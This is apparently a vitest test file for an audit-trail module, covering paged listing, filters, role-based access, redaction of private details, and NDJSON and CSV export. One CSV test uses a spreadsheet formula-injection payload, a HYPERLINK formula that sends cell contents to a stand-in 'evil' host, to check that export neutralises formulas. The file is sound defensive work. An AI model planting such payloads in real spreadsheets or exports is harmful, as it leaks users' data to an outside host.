import { describe, expect, test } from 'vitest'
import {
  type Actor,
  type AuditEntry,
  auditExport,
  exportAudit,
  listAudit,
  type Role,
  recordAudit,
  verifyAudit,
} from '../../src/index.ts'
import { actorWith, addPerson, addProfile, administrator, HOUR } from '../alerts/populate.ts'
import { type TestControl, testControl } from '../test-control.ts'

const adele: Actor = { ...administrator, id: 'adele' }
const miriam: Actor = { ...administrator, id: 'miriam', name: 'Miriam' }
const nothing = async () => new Set<string>()

async function record(control: TestControl, actor: Actor, entry: Partial<AuditEntry>): Promise<void> {
  await control.sql.transaction().execute((transaction) =>
    recordAudit(control, transaction, actor, {
      action: 'profile.changed',
      target: { kind: 'profile', id: 'p' },
      ...entry,
    }),
  )
}

async function text(pieces: AsyncIterable<string>): Promise<string> {
  let all = ''
  for await (const piece of pieces) all += piece
  return all
}

describe('the list of the audit trail', () => {
  test('comes in pages, newest first', async () => {
    await using control = await testControl()
    for (let i = 0; i < 7; i++) await record(control, adele, { reason: `${i}` })
    const first = await listAudit(control, adele, { limit: 3 }, nothing)
    expect(first.entries.map(({ number }) => number)).toEqual([7, 6, 5])
    const second = await listAudit(control, adele, { limit: 3, before: first.next! }, nothing)
    expect(second.entries.map(({ number }) => number)).toEqual([4, 3, 2])
    const third = await listAudit(control, adele, { limit: 3, before: second.next! }, nothing)
    expect(third).toMatchObject({ entries: [{ number: 1, reason: '0' }], next: null })
  })

  test('is limited by who did what to whom, and when', async () => {
    await using control = await testControl()
    const megan = await addPerson(control, await addProfile(control, 'Sales'), 'Megan')
    const start = control.clock.now()
    await record(control, adele, {
      action: 'person.preserved',
      target: { kind: 'person', id: megan },
      personId: megan,
    })
    control.clock.advance(HOUR)
    await record(control, miriam, { action: 'personal', target: { kind: 'profile', id: 'q' } })
    control.clock.advance(HOUR)
    await record(control, miriam, { action: 'person.deleted' })
    const numbers = async (query: Parameters<typeof listAudit>[2]) =>
      (await listAudit(control, adele, query, nothing)).entries.map(({ number }) => number)
    expect(await numbers({ actorId: 'miriam' })).toEqual([3, 2])
    expect(await numbers({ action: 'person.*' })).toEqual([3, 1])
    expect(await numbers({ action: 'person.deleted' })).toEqual([3])
    expect(await numbers({ action: 'person' })).toEqual([])
    expect(await numbers({ action: '%' })).toEqual([])
    expect(await numbers({ targetKind: 'profile', targetId: 'q' })).toEqual([2])
    expect(await numbers({ personId: megan })).toEqual([1])
    const [from, to] = [new Date(start + HOUR).toISOString(), new Date(start + 2 * HOUR).toISOString()]
    expect(await numbers({ from })).toEqual([3, 2])
    expect(await numbers({ from, to })).toEqual([2])
    expect(await numbers({ actorId: 'miriam', to: from })).toEqual([])
  })

  test('shows private details of the people whose data the reader may see, and of nobody else', async () => {
    await using control = await testControl()
    const profile = await addProfile(control, 'Sales')
    const [megan, lee] = [
      await addPerson(control, profile, 'Megan'),
      await addPerson(control, profile, 'Lee'),
    ]
    const privateDetails = { path: 'Plan.docx' }
    await record(control, adele, { personId: megan, privateDetails })
    await record(control, adele, { personId: lee, privateDetails })
    await record(control, adele, { privateDetails })
    await record(control, adele, { personId: lee })
    const asked: (readonly string[])[] = []
    const { entries } = await listAudit(control, adele, {}, async (people) => {
      asked.push([...people].sort())
      return new Set([megan])
    })
    expect(entries.map((entry) => [entry.privateDetails, entry.isPrivate])).toEqual([
      [null, false],
      [null, true],
      [null, true],
      [privateDetails, false],
    ])
    expect(asked).toEqual([[megan, lee].sort()])
  })

  test('shows whoever is limited to profiles what concerns their people', async () => {
    await using control = await testControl()
    const [sales, finance] = [await addProfile(control, 'Sales'), await addProfile(control, 'Finance')]
    await record(control, adele, { personId: await addPerson(control, sales, 'Megan') })
    await record(control, adele, { personId: await addPerson(control, finance, 'Lee') })
    await record(control, adele, {})
    const seen = async (profiles: string[]) =>
      (await listAudit(control, actorWith('auditor', profiles), {}, nothing)).entries.map(
        ({ number }) => number,
      )
    expect(await seen([sales])).toEqual([1])
    expect(await seen([sales, finance])).toEqual([2, 1])
    expect(await seen([])).toEqual([])
    const exporting = exportAudit(control, actorWith('auditor', [sales]), { format: 'ndjson' }, nothing)
    expect((await text(await exporting)).split('\n').filter(Boolean)).toHaveLength(1)
  })

  test.each<Role>(['profile-administrator', 'help-desk', 'person'])('is not for a %s', async (role) => {
    await using control = await testControl()
    const listing = listAudit(control, actorWith(role), {}, nothing)
    await expect(listing).rejects.toMatchObject({ code: 'HF_FORBIDDEN' })
    const exporting = exportAudit(control, actorWith(role), { format: 'csv' }, nothing)
    await expect(exporting).rejects.toMatchObject({ code: 'HF_FORBIDDEN' })
    expect(await verifyAudit(control.sql)).toMatchObject({ entries: 0 })
  })

  test.each([{ limit: 0 }, { personId: 'x' }, { from: 'yesterday' }, { unknown: 1 }])(
    'is not asked by %j',
    async (query) => {
      await using control = await testControl()
      await expect(listAudit(control, adele, query, nothing)).rejects.toMatchObject({ code: 'HF_INVALID' })
    },
  )
})

describe('the export of the audit trail', () => {
  test('is every entry as JSON, oldest first, and is an entry itself', async () => {
    await using control = await testControl()
    for (let i = 0; i < 510; i++) await record(control, adele, { reason: `${i}` })
    const pieces = await exportAudit(control, adele, { format: 'ndjson', action: 'profile.*' }, nothing)
    // What comes after the export began is not in it.
    await record(control, adele, { reason: 'later' })
    const lines = (await text(pieces)).trimEnd().split('\n')
    expect(lines.map((line) => JSON.parse(line).reason)).toEqual(
      Array.from({ length: 510 }, (_, i) => `${i}`),
    )
    const { entries } = await listAudit(control, adele, { action: 'audit.exported' }, nothing)
    expect(entries).toMatchObject([{ number: 511, details: { filter: '{"action":"profile.*"}' } }])
    expect(auditExport.safeParse({ format: 'html' }).success).toBe(false)
  })

  test('is CSV in which nothing is a formula, and private details are where they may be', async () => {
    await using control = await testControl()
    const megan = await addPerson(control, await addProfile(control, 'Sales'), 'Megan')
    const evil: Actor = { ...adele, id: 'evil', name: '=HYPERLINK("http://evil/?"&A1,"click")' }
    await record(control, evil, {
      reason: '@SUM(1),\n"two"',
      personId: megan,
      privateDetails: { path: 'a.txt' },
    })
    const csv = async (seen: string[]) =>
      text(await exportAudit(control, adele, { format: 'csv', actorId: 'evil' }, async () => new Set(seen)))
    const shown = await csv([megan])
    expect(shown.split('\r\n')[0]).toMatch(/^number,at,actor_kind,.*,hash$/)
    expect(shown).toContain(`,"'=HYPERLINK(""http://evil/?""&A1,""click"")",`)
    expect(shown).toContain(`,"'@SUM(1),\n""two""",`)
    expect(shown).toContain('"{""path"":""a.txt""}",false,')
    expect(await csv([])).toContain(',{},,true,')
  })
})
